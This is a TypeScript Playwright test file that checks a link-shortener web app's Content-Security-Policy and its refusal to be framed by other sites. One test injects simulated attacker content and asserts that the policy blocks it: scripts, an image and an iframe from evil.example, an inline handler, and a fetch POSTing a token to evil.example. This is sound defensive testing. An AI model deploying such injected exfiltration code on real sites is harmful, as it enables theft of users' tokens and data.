import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { z } from "zod";
import { openAccount, signedInScript, type Account } from "../running/account.ts";
import { type BrowserStack, shareBrowserStack } from "../browser/browserStack.ts";
import { openDestination } from "../browser/destination.ts";
import { visitors } from "../browser/visitors.ts";
import type { StackPlace } from "../running/runningStack.ts";
import { send } from "./send.ts";

let testStack: StackPlace;
let browser: Browser;
let close: BrowserStack["close"];
let ada: Account;
let linkId: string;
let goneCode: string;
beforeAll(async () => {
  ({ testStack, browser, close } = await shareBrowserStack());
  ada = await openAccount(testStack.appUrl, "policies@example.com");
  const link = await ada.createLink({ name: "Landing page", originalUrl: "https://example.com/" });
  const gone = await ada.createLink({ name: "Switched off", originalUrl: "https://example.com/" });
  [linkId, goneCode] = [link.id, gone.code];
  const headers = { authorization: `Bearer ${ada.tokens.accessToken}` };
  await send(testStack.appUrl, `/api/urls/${gone.id}/toggle-status`, { method: "PATCH", headers });
  await send(testStack.appUrl, "/api/auth/forgot-password", { method: "POST", body: { email: ada.email } });
  await send(testStack.shortUrl, `/${link.code}`, { headers: { "user-agent": visitors.firefoxOnLinux } });
});
afterAll(() => close());

/** Opens a browser whose pages report violations of their Content-Security-Policy. */
async function openWatched(): Promise<{ context: BrowserContext; page: Page; violations: string[] }> {
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  // The timeout is the same as in the journeys, because three stacks and browsers may share two cores.
  context.setDefaultTimeout(60_000);
  const violations: string[] = [];
  await context.exposeFunction("tellViolation", (what: string) => violations.push(what));
  await context.addInitScript(`document.addEventListener("securitypolicyviolation", (event) =>
    tellViolation(location.pathname + ": " + event.effectiveDirective + " " + event.blockedURI));`);
  const page = await context.newPage();
  // Violations in workers, and those that the page itself can't observe, are logged to the console.
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) violations.push(message.text());
  });
  return { context, page, violations };
}

async function visit(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await page.locator("h1").first().waitFor();
}

test("no page of a guest, nor one of ours beside the app, wants what its policy forbids", async () => {
  const { page, violations } = await openWatched();
  const guests = ["/", "/privacy", "/terms", "/login?error=oauth_failed", "/register", "/forgot-password"];
  for (const path of [
    ...guests,
    "/reset-password?token=some",
    "/google-oauth-complete?action=signup&email=a%40b.example",
  ])
    await visit(page, testStack.appUrl + path);
  await visit(page, `${testStack.appUrl}/dev/mailbox`);
  await page.getByRole("heading", { name: "Reset your hoplog password" }).first().waitFor();
  for (const code of ["none-such", goneCode]) await visit(page, `${testStack.shortUrl}/${code}`);
  const body = {
    name: "Shared",
    target: "link",
    targetId: linkId,
    figures: ["clicks", "chart"],
    dimensions: ["browser"],
  };
  const { data } = z.object({ data: z.object({ url: z.url() }) }).parse(await ada.call("POST", "/api/shares", body));
  await visit(page, testStack.appUrl + new URL(data.url).pathname);
  await page.getByText("Live", { exact: true }).waitFor();
  await page.goto(`${testStack.appUrl}/api/docs`);
  await page.getByText("/api/auth/login").click();
  await page.getByRole("button", { name: "Try it out" }).click();
  await page.getByRole("button", { name: "Execute" }).click();
  await page.getByText("Server response").waitFor();
  expect(violations).toEqual([]);
});

test("no page of somebody signed in does, nor charts, maps, pictures or files that are made in it", async () => {
  const { context, page, violations } = await openWatched();
  await context.addInitScript(signedInScript(ada));
  const live = page.waitForEvent("websocket");
  for (const path of ["/dashboard", "/groups", "/profile"]) await visit(page, testStack.appUrl + path);
  expect(new URL((await live).url()).host).toBe(new URL(testStack.appUrl).host);
  await page.goto(`${testStack.appUrl}/urls?analytics=${linkId}`);
  await page.getByText("Showing 1-1 of 1 clicks").waitFor();
  await page.locator(".js-plotly-plot .bars").first().waitFor();
  await page.goto(`${testStack.appUrl}/urls`);
  await page.getByRole("button", { name: "QR code Landing page" }).click();
  await page.getByRole("img", { name: /QR code of/ }).waitFor();
  expect(violations).toEqual([]);
});

test("what a thief would bring into a page does not run, loads nothing and sends nothing, and is seen by this test", async () => {
  const { page, violations } = await openWatched();
  for (const [url, directives] of [
    [`${testStack.appUrl}/login`, ["script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"]],
    [`${testStack.appUrl}/dev/mailbox`, ["script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"]],
    [`${testStack.shortUrl}/none-such`, ["script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"]],
  ] as const) {
    await visit(page, url);
    violations.length = 0;
    await page.evaluate(`(() => {
      const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
      add("script", { textContent: "window.stolen = true" });
      add("script", { src: "https://evil.example/x.js" });
      add("img", { src: "https://evil.example/x.png" });
      add("iframe", { src: "https://evil.example/" });
      document.body.insertAdjacentHTML("beforeend", '<p onclick="window.stolen = true">x</p>');
      document.body.lastElementChild.click();
      fetch("https://evil.example/", { method: "POST", body: "token" }).catch(() => {});
    })()`);
    for (const directive of directives)
      await expect.poll(() => violations.join("\n"), { message: `${url} ${directive}` }).toContain(`: ${directive} `);
    expect(await page.evaluate("window.stolen")).toBeUndefined();
  }
});

test("no page of ours shows inside another site's", async () => {
  const { page } = await openWatched();
  const other = await openDestination();
  onTestFinished(() => other.close());
  await page.goto(other.url);
  const ours = [`${testStack.appUrl}/login`, `${testStack.appUrl}/dev/mailbox`, `${testStack.shortUrl}/none-such`];
  const refused: string[] = [];
  page.on("requestfailed", (request) => refused.push(request.url()));
  for (const url of [...ours, other.url]) {
    const frame = `Object.assign(document.createElement("iframe"), { src: ${JSON.stringify(url)} })`;
    await page.evaluate(`document.body.append(${frame})`);
  }
  await expect.poll(() => refused.toSorted()).toEqual(ours.toSorted());
  const [, ...frames] = page.frames();
  // The last frame is allowed, which shows that allowed frames are displayed.
  await frames.at(-1)?.getByText("You have arrived").waitFor();
  const browsersOwn = "chrome-error://chromewebdata/";
  await expect.poll(() => frames.map((frame) => frame.url())).toEqual([...ours.map(() => browsersOwn), other.url]);
});
